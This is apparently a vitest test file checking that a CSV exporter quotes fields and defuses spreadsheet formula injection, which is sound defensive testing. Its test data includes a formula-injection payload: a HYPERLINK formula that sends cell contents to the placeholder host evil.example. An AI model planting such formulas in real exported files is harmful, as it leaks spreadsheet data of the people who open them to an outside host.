import { describe, expect, it } from "vitest";
import { toCsv } from "@/lib/export/csv";

describe("toCsv", () => {
  it("writes a header and quotes what needs quoting", () => {
    const rows = [{ name: 'a "quoted", name', rate: 49, missing: null }];
    const csv = toCsv([{ label: "System", value: (r: (typeof rows)[number]) => r.name }, { label: "Per-bug %", value: (r) => r.rate }, { label: "Cost", value: (r) => r.missing }], rows);
    expect(csv).toBe('System,Per-bug %,Cost\n"a ""quoted"", name",49,\n');
  });

  it("defuses text a spreadsheet would run as a formula, and leaves numbers alone", () => {
    const rows = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1", "-cmd", "@SUM(A1)", "\tx", "a=b", "plain"].map((name, i) => ({ name, rate: -i }));
    const csv = toCsv([{ label: "System", value: (r: (typeof rows)[number]) => r.name }, { label: "Change", value: (r) => r.rate }], rows);
    expect(csv.trim().split("\n").slice(1)).toEqual([
      `"'=HYPERLINK(""https://evil.example/?""&A1,""x"")",0`,
      "'+1,-1",
      "'-cmd,-2",
      "'@SUM(A1),-3",
      "'\tx,-4",
      "a=b,-5",
      "plain,-6",
    ]);
  });
});
